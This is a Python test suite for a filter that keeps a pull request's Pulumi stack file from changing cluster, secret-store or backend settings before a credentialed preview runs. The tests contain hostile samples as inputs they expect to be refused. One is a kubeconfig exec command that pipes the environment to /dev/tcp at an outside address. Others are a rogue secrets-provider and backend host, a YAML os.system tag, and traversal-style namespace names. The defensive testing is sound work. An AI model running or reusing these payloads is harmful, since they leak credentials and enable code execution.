"""What of a pull request's stack file reaches a preview that has the stack's credentials."""

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from planning.problems import Refused
from planning.review.proposal import previewed

CHECKOUT = Path(__file__).resolve().parents[4]
BASE = """
secretsprovider: awskms://alias/stacks
encryptedkey: AQID
environment: [deepseek/production]
config:
  kubernetes:namespace: deepseek
  kubernetes:context: production
  aws:region: eu-central-1
  deepseek:hardware: {nodes: 4}
  deepseek:apiKey: {secure: v1:key}
"""
LOGIN_PROGRAM = """\
  kubernetes:kubeconfig: |
    users: [{name: x, user: {exec: {command: sh, args: [-c, "env > /dev/tcp/203.0.113.1/80"]}}}]
"""


def read(base: str | None, proposed: str) -> tuple[dict[str, Any], list[str]]:
    text, left_out = previewed(base, proposed)
    return yaml.safe_load(text), left_out


def test_what_says_how_the_model_is_served_is_taken() -> None:
    proposed = BASE.replace("nodes: 4", "nodes: 8").replace("namespace: deepseek", "namespace: other")
    document, left_out = read(BASE, proposed)
    assert document == yaml.safe_load(proposed)
    assert left_out == []


def test_a_key_that_the_pull_request_removes_is_gone() -> None:
    document, left_out = read(BASE, BASE.replace("  deepseek:hardware: {nodes: 4}\n", ""))
    assert "deepseek:hardware" not in document["config"]
    assert left_out == []


@pytest.mark.parametrize(
    ("key", "line"),
    [
        ("kubernetes:kubeconfig", LOGIN_PROGRAM),
        ("kubernetes:config:kubeconfig", "  kubernetes:config:kubeconfig: x"),
        ("kubernetes:cluster", "  kubernetes:cluster: other"),
        ("kubernetes:Namespace", "  kubernetes:Namespace: other"),
        ("pulumi:disable-default-providers", "  pulumi:disable-default-providers: ['*']"),
        ("deepseek:config:hardware", "  deepseek:config:hardware: {}"),
        ("deepseek:apiKey:x", "  deepseek:apiKey:x: y"),
        ("deepseek:modelToken", "  deepseek:modelToken: {secure: v1:key}"),
        ("modelToken", "  modelToken: plain"),
        ("environment", "environment: [another/team]"),
        ("secretsprovider", "secretsprovider: hashivault://203.0.113.1"),
        ("encryptionsalt", "encryptionsalt: v1:x"),
        ("backend", "backend: {url: 's3://203.0.113.1'}"),
        ("runtime", "runtime: {name: python, options: {virtualenv: x}}"),
    ],
)
@pytest.mark.parametrize("base", [BASE, None], ids=["a stack that is there", "a new stack"])
def test_which_cluster_state_and_secrets_stay_those_of_the_base_branch(base: str | None, key: str, line: str) -> None:
    lines = [item for item in (base or "config:\n").splitlines() if not item.startswith(f"{key}:")]
    added = [*lines, line] if line.startswith(" ") else [line, *lines]
    document, left_out = read(base, "\n".join(added) + "\n")
    assert document == (yaml.safe_load(base) if base else {"config": {}})
    assert left_out == [key]


def test_a_changed_secret_of_the_stack_is_not_decrypted() -> None:
    document, left_out = read(BASE, BASE.replace("v1:key", "v1:other"))
    assert document["config"]["deepseek:apiKey"] == {"secure": "v1:key"}
    assert left_out == ["deepseek:apiKey"]


@pytest.mark.parametrize(
    "text",
    [
        "config: {deepseek:model: {secure: v1:key}}",
        "config: {deepseek:model: {repository: {secure: v1:key}}}",
        "config: {deepseek:serving: {extraArgs: [{secure: v1:key}]}}",
        'config: {deepseek:model: {name: {"\\u0073ecure": v1:key}}}',
        "config: {model: {name: {secure: v1:key}}}",
        "config: {kubernetes:namespace: {secure: v1:key}}",
    ],
)
def test_a_ciphertext_anywhere_else_is_refused_lest_it_be_shown(text: str) -> None:
    with pytest.raises(Refused, match=r"secure|namespace"):
        previewed(BASE, text)


@pytest.mark.parametrize("namespace", ["a b", "../x", "'@octocat'", "-a", "a" * 64, "[a]", "A", "''"])
def test_a_namespace_is_a_name(namespace: str) -> None:
    with pytest.raises(Refused, match="is no name of a namespace"):
        previewed(BASE, f"config: {{kubernetes:namespace: {namespace}}}")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("a: &x 1\nconfig: {b: *x}", "anchor or alias x"),
        ("config: {<<: {kubernetes:context: x}}", "no text"),
        ("config: {deepseek:model: !!python/name:os.system x}", "tag tag:yaml.org,2002:python/name:os.system"),
        ("config: {deepseek:model: !!binary eA==}", "the tag"),
        ("config: {}\n---\nconfig: {}", "more than one document"),
        ("config: {a: 1, a: 2}", "the key a twice"),
        ("config: {? [a] : 1}", "no text"),
        ("config: {deepseek:model: {a: 1, 'a': 2}}", "the key a twice"),
        ("config: " + "[" * 5_000, "17 deep"),
        ("config: " + "{a: " * 5_000, "17 deep"),
        ("config: {a: " + "x" * 70_000 + "}", "characters"),
        ("config: [", "is not YAML"),
        ("config: \x07", "is not YAML"),
        ("config: [a]", "is no object"),
        ("- a", "is no object"),
        ("../secrets.yaml", "is no object"),
        ("", "is no object"),
    ],
)
def test_a_file_that_another_parser_may_read_otherwise_is_refused(text: str, found: str) -> None:
    with pytest.raises(Refused, match=found):
        previewed(BASE, text)


@pytest.mark.parametrize("value", ["12e4", "0123", "yes", "'yes'", "1.50", "~", "2026-11-26", "0x1f", '"1"', "1_000"])
def test_a_value_is_handed_on_as_it_was_written(value: str) -> None:
    text, _ = previewed(None, f"config:\n  deepseek:model:\n    revision: {value}\n")
    assert text == f"config:\n  deepseek:model:\n    revision: {value}\n"


KEYS = st.sampled_from(
    ["kubernetes:kubeconfig", "kubernetes:context", "kubernetes:namespace", "deepseek:hardware", "deepseek:apiKey",
     "model", "deepseek:x:y", "aws:region", "pulumi:tags", "secure", "config", "environment", "secretsprovider"]
) | st.text(max_size=8)  # fmt: skip
SCALARS = st.none() | st.booleans() | st.integers() | st.text(max_size=12)
VALUES = st.recursive(SCALARS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(KEYS, inner, max_size=3))
DOCUMENTS = st.fixed_dictionaries({"config": st.dictionaries(KEYS, VALUES, max_size=6)})


@settings(max_examples=300, deadline=None)
@given(DOCUMENTS, st.dictionaries(KEYS, VALUES, max_size=3))
def test_no_other_key_of_any_file_gets_past_the_base_branch(document: dict[str, Any], others: dict[str, Any]) -> None:
    try:
        result, _ = read(BASE, yaml.safe_dump(others | document))
    except Refused:
        return
    base = yaml.safe_load(BASE)
    config = result.pop("config")
    assert result == {key: value for key, value in base.items() if key != "config"}
    own = {key for key in config if key.removeprefix("deepseek:").isalnum() and "apiKey" not in key}
    ours = {key: value for key, value in config.items() if key not in own | {"kubernetes:namespace"}}
    assert ours == {
        key: value for key, value in base["config"].items() if key not in {"deepseek:hardware", "kubernetes:namespace"}
    }
    assert not re.search(r'(?<!\\)"secure": ', json.dumps([config[key] for key in own]))


def command(folder: Path, proposed: str, stack_file: str = "Pulumi.x.yaml") -> subprocess.CompletedProcess[str]:
    (folder / "proposed.yaml").write_text(proposed)
    arguments = [str(folder / "proposed.yaml"), str(folder / stack_file), "--left-out", str(folder / "left-out.json")]
    return subprocess.run(
        [sys.executable, "-B", "-m", "planning.review.proposal", *arguments],
        cwd=CHECKOUT,
        capture_output=True,
        text=True,
        check=False,
    )


def test_the_command_writes_the_file_and_what_it_left_out(tmp_path: Path) -> None:
    (tmp_path / "Pulumi.x.yaml").write_text(BASE)
    assert command(tmp_path, BASE.replace("context: production", "context: other")).returncode == 0
    assert yaml.safe_load((tmp_path / "Pulumi.x.yaml").read_text()) == yaml.safe_load(BASE)
    assert json.loads((tmp_path / "left-out.json").read_text()) == ["kubernetes:context"]


def test_the_command_says_in_a_comment_why_it_refuses(tmp_path: Path) -> None:
    (tmp_path / "Pulumi.x.yaml").write_text(BASE)
    done = command(tmp_path, "config: {a: &x 1}")
    assert done.returncode == 1
    assert done.stdout.startswith("<!-- deepseek-on-kubernetes preview of x -->\n")
    assert "has the anchor or alias x" in done.stdout
    assert (tmp_path / "Pulumi.x.yaml").read_text() == BASE
